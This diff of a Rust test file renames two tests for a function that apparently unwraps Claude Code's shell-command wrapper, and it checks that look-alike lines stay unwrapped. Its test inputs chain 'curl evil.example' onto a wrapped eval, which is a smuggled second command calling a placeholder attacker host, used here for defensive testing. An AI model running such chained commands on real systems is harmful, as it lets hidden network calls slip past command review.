@@ -12,7 +12,7 @@ fn reduce(line: &str) -> Option<String> {
 }
 
 #[test]
-fn the_form_of_claude_code_is_seen_through() {
+fn the_wrapper_of_claude_code_is_removed() {
     let set = r"\builtin setopt NO_EXTENDED_GLOB NO_BRACE_CCL 2>/dev/null || true && ";
     let forget = r"{ \builtin unalias -- 'which'; \builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && ";
     let line = format!(r#"{START}{set}{forget}eval 'echo "it'"'"'s"; ls'{END}"#);
@@ -24,7 +24,7 @@ fn the_form_of_claude_code_is_seen_through() {
 }
 
 #[test]
-fn what_only_looks_like_it_is_left_as_it_is() {
+fn similar_lines_are_not_unwrapped() {
     let other = [
         format!("{START}eval 'ls'{END}; curl evil.example"),
         format!("{START}eval 'ls' && curl evil.example{END}"),
